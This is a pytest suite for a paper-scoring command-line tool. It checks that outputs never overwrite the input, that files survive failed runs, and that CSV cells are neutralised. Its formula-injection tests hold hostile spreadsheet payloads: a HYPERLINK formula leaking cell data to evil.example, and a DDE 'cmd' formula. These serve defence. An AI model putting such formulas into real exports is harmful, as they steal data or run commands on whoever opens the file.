"""Nothing the user had is ever lost, and nothing scorer writes attacks whoever opens it.

Every command that writes files (`batch`, `digest`, `eval --report`,
`fetch arxiv -o`) against the fake OpenAI server, with real files in tmp_path:
an output that is the input is refused; an existing output survives a failed
run byte for byte; every check that needs no model happens before the first
request; the input's columns keep their names; every JSONL field reaches the
CSV; CSV cells never start a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from subprocesses import SCORER, sigint_state, started, wait_for_rows

from scorer import Paper, Settings, load_rubric
from scorer._errors import InputError
from scorer.cli import cli
from scorer.engine._batch import run_batch
from scorer.engine._scorer import Scorer
from scorer.io._batch_outputs import BatchOutputs
from scorer.io._scored import read_scored
from scorer.io._writers import CsvWriter, neutralise_cell, restore_cell
from scorer.testing import FakeOpenAI, Reply

RUBRIC = load_rubric("llm-inference")
OLD = "precious results from last week\n"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def invoke(fake: FakeOpenAI, *args: str, stdin: str | bytes | None = None) -> Result:
    runner = CliRunner(env={"OPENAI_BASE_URL": fake.base_url})
    return runner.invoke(cli, list(args), input=stdin, catch_exceptions=False)


def one_error_line(result: Result) -> str:
    assert result.exit_code == 2, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("scorer: error: "), result.stderr
    return lines[0]


def papers_csv(path: Path, count: int = 3) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["title", "abstract"])
        for i in range(count):
            out.writerow([f"Paper {i}", f"Abstract number {i} about KV caches."])
    return path


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def existing_outputs(folder: Path) -> list[Path]:
    outs = [folder / "out.csv", folder / "out.jsonl", folder / "digest.md"]
    for out in outs:
        out.write_text(OLD, encoding="utf-8")
    return outs


# -- 1. an output is never an input ---------------------------------------------------------------


@pytest.mark.parametrize("spelling", ["same", "dot-slash", "absolute", "symlink", "hardlink"])
def test_an_output_that_is_the_input_is_refused_before_anything_is_read(
    fake: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spelling: str
) -> None:
    monkeypatch.chdir(tmp_path)
    source = papers_csv(tmp_path / "papers.csv")
    before = source.read_bytes()
    output = {
        "same": "papers.csv",
        "dot-slash": "./papers.csv",
        "absolute": str(source),
        "symlink": "link.csv",
        "hardlink": "hard.csv",
    }[spelling]
    if spelling == "symlink":
        (tmp_path / "link.csv").symlink_to(source)
    if spelling == "hardlink":
        os.link(source, tmp_path / "hard.csv")

    result = invoke(fake, "batch", "papers.csv", "-r", "llm-inference", "-o", output)

    assert "is the input file" in one_error_line(result)
    assert source.read_bytes() == before
    assert fake.count == 0 and leftovers(tmp_path) == []


def test_two_outputs_naming_one_file_are_refused(fake: FakeOpenAI, tmp_path: Path) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    out = tmp_path / "out.csv"
    out.write_text(OLD, encoding="utf-8")
    (tmp_path / "alias.csv").symlink_to(out)
    for second in (f"{tmp_path}/./out.csv", str(tmp_path / "alias.csv")):
        result = invoke(
            fake, "batch", str(source), "-r", "llm-inference", "-o", str(out), "-o", second
        )
        assert "the same file as output" in one_error_line(result)
    assert out.read_text(encoding="utf-8") == OLD and fake.count == 0


def test_stdin_redirected_from_the_output_is_refused(fake: FakeOpenAI, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text(json.dumps({"title": "T", "abstract": "A"}) + "\n", encoding="utf-8")
    before = out.read_bytes()
    env = {**os.environ, "OPENAI_BASE_URL": fake.base_url}
    with out.open("rb") as stdin, started(
        [SCORER, "batch", "-", "-r", "llm-inference", "-o", str(out)],
        stdin=stdin, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    ) as proc:  # fmt: skip
        _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 2 and "is the input file" in stderr, stderr
    assert out.read_bytes() == before and fake.count == 0


def test_digest_refuses_to_write_over_its_scored_rows(fake: FakeOpenAI, tmp_path: Path) -> None:
    rows = tmp_path / "rows.jsonl"
    rows.write_text(OLD, encoding="utf-8")
    (tmp_path / "digest.md").symlink_to(rows)
    result = invoke(
        fake, "digest", str(rows), "-r", "llm-inference", "-o", str(tmp_path / "digest.md")
    )
    assert "is the input file" in one_error_line(result)
    assert rows.read_text(encoding="utf-8") == OLD


def test_a_fifo_output_is_written_in_place_not_replaced(fake: FakeOpenAI, tmp_path: Path) -> None:
    from threading import Thread

    source = papers_csv(tmp_path / "papers.csv", count=2)
    fifo = tmp_path / "out.jsonl"
    os.mkfifo(fifo)
    received: list[str] = []
    reader = Thread(target=lambda: received.extend(fifo.open(encoding="utf-8")), daemon=True)
    reader.start()
    result = invoke(fake, "batch", str(source), "-r", "llm-inference", "-o", str(fifo))
    reader.join(timeout=60)
    assert result.exit_code == 0, result.stderr
    assert len(received) == 2 and fifo.is_fifo() and leftovers(tmp_path) == []


# -- 2. an existing output survives a failed run; no temporary file is left -----------------------


def test_a_clean_run_replaces_outputs_and_keeps_their_permissions(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    outs = existing_outputs(tmp_path)
    for out in outs:
        out.chmod(0o640)
    result = invoke(fake, "batch", str(source), "-r", "llm-inference", *(f"-o{o}" for o in outs))
    assert result.exit_code == 0, result.stderr
    assert len(list(csv.DictReader(outs[0].open(encoding="utf-8")))) == 3
    assert len(outs[1].read_text(encoding="utf-8").splitlines()) == 3
    assert "out of **3** total scanned." in outs[2].read_text(encoding="utf-8")
    assert [out.stat().st_mode & 0o777 for out in outs] == [0o640] * 3
    assert leftovers(tmp_path) == []


def test_per_paper_failures_still_write_every_output(fake: FakeOpenAI, tmp_path: Path) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    outs = existing_outputs(tmp_path)
    fake.enqueue(Reply.out_of_range(), Reply.out_of_range())  # first paper: answer and re-ask bad
    result = invoke(
        fake, "batch", str(source), "-r", "llm-inference", "--concurrency", "1",
        *(f"-o{o}" for o in outs),
    )  # fmt: skip
    assert result.exit_code == 1, result.stderr
    rows = list(csv.DictReader(outs[0].open(encoding="utf-8")))
    assert sorted(r["status"] for r in rows) == ["failed", "scored", "scored"]
    assert len(outs[1].read_text(encoding="utf-8").splitlines()) == 3
    assert "out of **3** total scanned." in outs[2].read_text(encoding="utf-8")
    assert leftovers(tmp_path) == []


def test_a_fatal_backend_error_keeps_the_answers_already_paid_for(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = papers_csv(tmp_path / "papers.csv", count=4)
    outs = existing_outputs(tmp_path)
    fake.enqueue(Reply(), Reply(), Reply.unauthorized())
    result = invoke(
        fake, "batch", str(source), "-r", "llm-inference", "--concurrency", "1",
        *(f"-o{o}" for o in outs),
    )  # fmt: skip
    assert result.exit_code == 3, result.stderr
    rows = list(csv.DictReader(outs[0].open(encoding="utf-8")))
    assert [r["title"] for r in rows] == ["Paper 0", "Paper 1"]
    assert len(outs[1].read_text(encoding="utf-8").splitlines()) == 2
    assert "out of **2** total scanned." in outs[2].read_text(encoding="utf-8")
    assert leftovers(tmp_path) == []


def test_a_fatal_error_before_any_answer_leaves_outputs_as_they_were(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    outs = existing_outputs(tmp_path)
    fake.enqueue(Reply.unauthorized())
    result = invoke(
        fake, "batch", str(source), "-r", "llm-inference", "--concurrency", "1",
        *(f"-o{o}" for o in outs),
    )  # fmt: skip
    assert result.exit_code == 3, result.stderr
    assert all(out.read_text(encoding="utf-8") == OLD for out in outs)
    assert leftovers(tmp_path) == []


def test_an_unreadable_line_is_one_skipped_row_and_the_rest_replaces_the_outputs(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    # A NUL byte spoils its own record only (readers report it with its line number).
    source = tmp_path / "papers.csv"
    source.write_bytes(b"title,abstract\nOne,First.\nTwo,Sec\x00ond.\nThree,Third.\n")
    outs = existing_outputs(tmp_path)
    result = invoke(fake, "batch", str(source), "-r", "llm-inference", *(f"-o{o}" for o in outs))
    assert result.exit_code == 1, result.stderr
    assert f"{source}:3: skipped" in result.stderr
    assert fake.count == 2
    rows = list(csv.DictReader(io.StringIO(outs[0].read_text(encoding="utf-8"))))
    # Rows arrive in completion order (concurrency 16), so compare as a set.
    assert sorted(row["title"] for row in rows) == ["One", "Three"]
    assert leftovers(tmp_path) == []


def test_a_bad_record_on_stdin_is_one_skipped_row_and_the_rest_is_written(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    lines = [json.dumps({"title": f"P{i}", "abstract": f"A{i}."}).encode() for i in range(2)]
    stdin = b"\n".join([*lines, b'{"title": "Bad", "abstract": "\x00"}', b""])
    outs = existing_outputs(tmp_path)
    result = invoke(
        fake, "batch", "-", "-r", "llm-inference", *(f"-o{o}" for o in outs), stdin=stdin
    )
    assert result.exit_code == 1, result.stderr
    assert "-:3: skipped" in result.stderr
    assert all(out.read_text(encoding="utf-8") != OLD for out in outs)
    assert leftovers(tmp_path) == []


def test_library_run_stopped_by_bad_input_midway_keeps_old_outputs(
    fake: FakeOpenAI, fake_settings: Settings, tmp_path: Path
) -> None:
    def papers() -> Iterator[Paper]:
        yield Paper(title="One", abstract="First.")
        yield Paper(title="Two", abstract="Second.")
        raise InputError("papers.csv: line 3: broken")

    outs = existing_outputs(tmp_path)

    async def run() -> None:
        async with Scorer(fake_settings) as scorer:
            with BatchOutputs(outs, RUBRIC) as out:
                await run_batch(papers(), RUBRIC, scorer, sinks=out.sinks, concurrency=1)

    with pytest.raises(InputError):
        asyncio.run(run())
    assert fake.count >= 1  # it really was midway: answers had come back
    assert all(out.read_text(encoding="utf-8") == OLD for out in outs)
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("stop", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_ctrl_c_keeps_the_finished_rows_and_leaves_no_temporary_file(
    fake: FakeOpenAI, isolated_env: Path, tmp_path: Path, stop: signal.Signals
) -> None:
    source = tmp_path / "papers.jsonl"
    with source.open("w", encoding="utf-8") as f:
        for i in range(40):
            f.write(json.dumps({"title": f"Paper {i}", "abstract": f"Abstract number {i}."}) + "\n")
    outs = existing_outputs(tmp_path)
    fake.latency = 0.25
    env = {**os.environ, "OPENAI_BASE_URL": fake.base_url, "SCORER_CACHE_DIR": str(isolated_env)}
    args = ["batch", str(source), "-r", "llm-inference", "--concurrency", "2"]
    with started(
        [SCORER, *args, *(f"-o{o}" for o in outs)],  # as a shell starts it: see subprocesses
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    ) as proc:  # fmt: skip
        assert wait_for_rows(tmp_path, ".out.jsonl.*.tmp", 4), "no rows were written"
        assert outs[1].read_text(encoding="utf-8") == OLD  # the old file stays until the end
        state = sigint_state(proc.pid)
        proc.send_signal(stop)
        # A hang guard, not a measurement; leaving the block kills the command.
        _, stderr = proc.communicate(timeout=30)
    assert proc.returncode == 130, f"{stderr}(SIGINT was {state} in the command)"
    assert "Traceback" not in stderr
    rows = list(csv.DictReader(outs[0].open(encoding="utf-8")))
    assert 4 <= len(rows) < 40 and all(r["status"] == "scored" for r in rows)
    assert len(outs[1].read_text(encoding="utf-8").splitlines()) == len(rows)
    assert f"out of **{len(rows)}** total scanned." in outs[2].read_text(encoding="utf-8")
    assert leftovers(tmp_path) == []


# -- 3. check before spending ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("problem", "message"),
    [
        ("missing folder", "does not exist"),
        ("parent is a file", "is not a folder"),
        ("unknown format", "unknown output format"),
        ("missing input", "no such file"),
        ("no abstract column", "no abstract column"),
        ("invalid rubric", "bad.toml"),
    ],
)
def test_every_knowable_problem_is_reported_before_the_first_request(
    fake: FakeOpenAI, tmp_path: Path, problem: str, message: str
) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    out = tmp_path / "out.csv"
    out.write_text(OLD, encoding="utf-8")
    rubric = "llm-inference"
    outputs = [str(out)]
    if problem == "missing folder":
        outputs.append(str(tmp_path / "no-such-folder" / "digest.md"))
    elif problem == "parent is a file":
        outputs.append(str(source / "digest.md"))
    elif problem == "unknown format":
        outputs.append(str(tmp_path / "digest.pdf"))
    elif problem == "missing input":
        source = tmp_path / "missing.csv"
    elif problem == "no abstract column":
        source.write_text("title,summary_text\nA,B\n", encoding="utf-8")
    else:
        rubric = str(tmp_path / "bad.toml")
        Path(rubric).write_text('name = "bad"\nthreshold = 500\n', encoding="utf-8")

    result = invoke(fake, "batch", str(source), "-r", rubric, *(f"-o{o}" for o in outputs))

    assert message in one_error_line(result)
    assert fake.count == 0
    assert out.read_text(encoding="utf-8") == OLD and leftovers(tmp_path) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into a read-only folder")
def test_a_folder_that_is_not_writable_is_reported_before_the_first_request(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = papers_csv(tmp_path / "papers.csv")
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    result = invoke(fake, "batch", str(source), "-r", "llm-inference", "-o", str(locked / "o.csv"))
    assert "not writable" in one_error_line(result) and fake.count == 0


def test_eval_report_and_fetch_output_are_checked_before_any_request(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    labelled = tmp_path / "labelled.csv"
    labelled.write_text("title,abstract,label\nA,B,yes\nC,D,no\n", encoding="utf-8")
    result = invoke(
        fake, "eval", str(labelled), "-r", "llm-inference",
        "--report", str(tmp_path / "missing" / "report.html"),
    )  # fmt: skip
    assert "does not exist" in one_error_line(result) and fake.count == 0
    result = invoke(fake, "eval", str(labelled), "-r", "llm-inference", "--report", str(labelled))
    assert "report" in one_error_line(result) and fake.count == 0

    # Port 9 on loopback answers nothing: a fetch that got that far would fail differently.
    result = invoke(
        fake, "fetch", "arxiv", "-q", "kv cache", "--arxiv-url", "http://127.0.0.1:9/api/query",
        "-o", str(tmp_path / "missing" / "papers.csv"),
    )  # fmt: skip
    assert "does not exist" in one_error_line(result)


# -- 4. the user's columns are theirs -------------------------------------------------------------

COLLIDING = ["title", "abstract", "status", "relevance", "justification", "model", "tokens"]


def test_input_columns_named_like_results_keep_their_values(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = tmp_path / "screening.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(COLLIDING)
        out.writerow(["DualPath", "KV-cache I/O.", "to read", "high", "Alice says yes", "n/a", "7"])
        out.writerow(["KnapSpec", "Speculative decoding.", "done", "low", "Bob: no", "n/a", "9"])
    rows_csv, rows_jsonl, digest = tmp_path / "o.csv", tmp_path / "o.jsonl", tmp_path / "d.md"

    result = invoke(
        fake, "batch", str(source), "-r", "llm-inference", "--threshold", "0",
        "-o", str(rows_csv), "-o", str(rows_jsonl), "-o", str(digest),
    )  # fmt: skip

    assert result.exit_code == 0, result.stderr
    notices = [line for line in result.stderr.splitlines() if "scorer_status" in line]
    assert len(notices) == 1
    for name in ("status", "relevance", "justification", "model", "tokens"):
        assert f"scorer_{name}" in notices[0]
    table = list(csv.DictReader(rows_csv.open(encoding="utf-8")))
    records = [json.loads(line) for line in rows_jsonl.read_text(encoding="utf-8").splitlines()]
    for rows in (table, records):
        mine = {r["title"]: (r["status"], r["relevance"], r["justification"]) for r in rows}
        assert mine == {
            "DualPath": ("to read", "high", "Alice says yes"),
            "KnapSpec": ("done", "low", "Bob: no"),
        }
        assert {r["scorer_status"] for r in rows} == {"scored"}
        assert all(0 <= int(r["scorer_relevance"]) <= 100 for r in rows)
        assert "hype" in rows[0] and "scorer_hype" not in rows[0]  # no collision, no rename

    # `scorer digest` takes scorer's values back from the scorer_ columns.
    for rows_file in (rows_csv, rows_jsonl):
        again = tmp_path / f"again-{rows_file.suffix[1:]}.md"
        code = invoke(fake, "digest", str(rows_file), "-r", "llm-inference", "--threshold", "0",
                      "-o", str(again)).exit_code  # fmt: skip
        assert code == 0
        assert again.read_text(encoding="utf-8") == digest.read_text(encoding="utf-8")
    scored = list(read_scored(rows_csv, RUBRIC))
    assert {s.paper.extra_fields["status"] for s in scored} == {"to read", "done"}
    assert all(s.ok for s in scored)


def test_score_frame_keeps_the_frames_columns_and_prefixes_its_own(
    fake: FakeOpenAI, fake_settings: Settings
) -> None:
    pd = pytest.importorskip("pandas")
    from scorer.pandas import score_frame

    df = pd.DataFrame(
        {
            "title": ["DualPath"],
            "abstract": ["KV-cache I/O."],
            "status": ["to read"],
            "relevance": ["high"],
        }
    )
    with pytest.warns(UserWarning, match="scorer_status"):
        scored = score_frame(df, "llm-inference", settings=fake_settings)
    assert (scored.loc[0, "status"], scored.loc[0, "relevance"]) == ("to read", "high")
    assert scored.loc[0, "scorer_status"] == "scored"
    assert 0 <= scored.loc[0, "scorer_relevance"] <= 100
    assert "hype" in scored.columns and "scorer_hype" not in scored.columns


# -- 5. every field reaches the CSV ---------------------------------------------------------------

RAGGED = [
    {"title": "A", "abstract": "First.", "venue": "OSDI"},
    {"title": "B", "abstract": "Second.", "doi_note": "retracted", "categories": ["cs.DC"]},
    {"title": "C", "abstract": "Third.", "venue": "SOSP", "tags": ["kv", "cache"]},
]


def test_jsonl_records_with_different_keys_lose_no_field_in_csv(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = tmp_path / "ragged.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in RAGGED), encoding="utf-8")
    out = tmp_path / "out.csv"
    result = invoke(fake, "batch", str(source), "-r", "llm-inference", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    rows = {r["title"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["A"]["venue"] == "OSDI" and rows["C"]["venue"] == "SOSP"
    assert rows["B"]["doi_note"] == "retracted" and rows["B"]["categories"] == "cs.DC"
    assert json.loads(rows["C"]["tags"]) == ["kv", "cache"]


def test_jsonl_on_stdin_puts_later_fields_in_the_extra_column(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    stdin = "".join(json.dumps(r) + "\n" for r in RAGGED)
    result = invoke(
        fake, "batch", "-", "-r", "llm-inference", "--concurrency", "1", "-o", str(out), stdin=stdin
    )
    assert result.exit_code == 0, result.stderr
    rows = {r["title"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["A"]["venue"] == "OSDI" and rows["C"]["venue"] == "SOSP"
    assert json.loads(rows["B"]["extra"]) == {"categories": "cs.DC", "doi_note": "retracted"}
    assert json.loads(rows["C"]["extra"]) == {"tags": ["kv", "cache"]}
    assert rows["A"]["extra"] == ""


# -- 8. CSV formula injection ---------------------------------------------------------------------

HOSTILE = [
    {"title": '=HYPERLINK("http://evil.example","click")', "abstract": "+1+1 abstract."},
    {"title": "-2+3", "abstract": "@SUM(A1:A9) again", "authors": ["=cmd|' /C calc'!A0", "B"]},
    {"title": "@Tabbed title", "abstract": "Plain.", "note": "\tx", "memo": "\rcarriage"},
    {"title": "'=already quoted", "abstract": "'plain quote stays."},
]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def test_no_csv_cell_starts_a_formula_and_jsonl_and_digest_keep_exact_values(
    fake: FakeOpenAI, tmp_path: Path
) -> None:
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    fake.enqueue(*[Reply(json_override={"justification": EVIL}) for _ in HOSTILE])
    out_csv, out_jsonl = tmp_path / "o.csv", tmp_path / "o.jsonl"
    result = invoke(
        fake, "batch", str(source), "-r", "llm-inference", "--threshold", "0",
        "-o", str(out_csv), "-o", str(out_jsonl),
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr

    cells = [cell for row in csv.reader(out_csv.open(encoding="utf-8", newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    table = list(csv.DictReader(out_csv.open(encoding="utf-8", newline="")))
    assert {r["justification"] for r in table} == {"'" + EVIL}
    assert {r["title"] for r in table} == {"'" + h["title"] for h in HOSTILE}
    records = [json.loads(line) for line in out_jsonl.read_text(encoding="utf-8").splitlines()]
    assert {r["title"] for r in records} == {h["title"] for h in HOSTILE}
    assert {r["justification"] for r in records} == {EVIL}

    # Reading the CSV back undoes exactly the neutralisation.
    back = {s.paper.title: s for s in read_scored(out_csv, RUBRIC)}
    assert set(back) == {h["title"] for h in HOSTILE}
    assert {s.justification for s in back.values()} == {EVIL}
    assert back["-2+3"].paper.authors == ["=cmd|' /C calc'!A0", "B"]
    md_csv, md_jsonl = tmp_path / "c.md", tmp_path / "j.md"
    for rows, md in ((out_csv, md_csv), (out_jsonl, md_jsonl)):
        code = invoke(fake, "digest", str(rows), "-r", "llm-inference", "--threshold", "0",
                      "-o", str(md)).exit_code  # fmt: skip
        assert code == 0
    assert md_csv.read_text(encoding="utf-8") == md_jsonl.read_text(encoding="utf-8")


@pytest.mark.parametrize("text", ["=1", "''=1", "'x", "-", "plain", "\r\n", "@", "'", ""])
def test_neutralising_is_undone_exactly(text: str) -> None:
    safe = neutralise_cell(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore_cell(safe) == text


def test_csv_writer_neutralises_for_library_users_too() -> None:
    from scorer._models import ScoredPaper

    stream = io.StringIO()
    paper = Paper(title="@evil", abstract="-x", lab="+1")
    failed = ScoredPaper(paper=paper, rubric="r", rubric_fingerprint="f", model="m", error="=boom")
    CsvWriter(stream, RUBRIC).write(failed)
    cells = [c for row in csv.reader(io.StringIO(stream.getvalue())) for c in row]
    assert "'@evil" in cells and "'-x" in cells and "'+1" in cells and "'=boom" in cells


FEED = """<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/"
      xmlns:arxiv="http://arxiv.org/schemas/atom" xmlns="http://www.w3.org/2005/Atom">
  <id>https://arxiv.org/api/x</id>
  <title>arXiv Query</title>
  <updated>2026-04-12T22:10:19Z</updated>
  <opensearch:itemsPerPage>100</opensearch:itemsPerPage>
  <opensearch:totalResults>1</opensearch:totalResults>
  <opensearch:startIndex>0</opensearch:startIndex>
  <entry>
    <id>http://arxiv.org/abs/1605.08386v1</id>
    <title>=HYPERLINK("http://evil.example","Heat-bath")</title>
    <updated>2016-05-26T17:59:46Z</updated>
    <link href="https://arxiv.org/abs/1605.08386v1" rel="alternate" type="text/html"/>
    <link href="https://arxiv.org/pdf/1605.08386v1" rel="related" title="pdf"/>
    <summary>-1+1 walks on lattice points.</summary>
    <category term="math.CO" scheme="http://arxiv.org/schemas/atom"/>
    <published>2016-05-26T17:59:46Z</published>
    <author><name>@Caprice Stanley</name></author>
  </entry>
</feed>
"""


@pytest.fixture
def arxiv_feed() -> Iterator[str]:
    """An arXiv API on loopback answering every query with ``FEED``; yields its URL."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = FEED.encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/atom+xml; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/api/query"
    finally:
        server.shutdown()
        server.server_close()


def test_fetched_csv_is_neutralised_and_replaces_the_old_file_whole(
    fake: FakeOpenAI, arxiv_feed: str, tmp_path: Path
) -> None:
    out = tmp_path / "papers.csv"
    out.write_text(OLD, encoding="utf-8")
    result = invoke(
        fake, "fetch", "arxiv", "--id", "1605.08386", "--arxiv-url", arxiv_feed,
        "--arxiv-delay", "0", "-o", str(out),
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
    assert row["title"] == '\'=HYPERLINK("http://evil.example","Heat-bath")'
    assert row["abstract"] == "'-1+1 walks on lattice points."
    assert row["authors"] == "'@Caprice Stanley"
    assert leftovers(tmp_path) == []
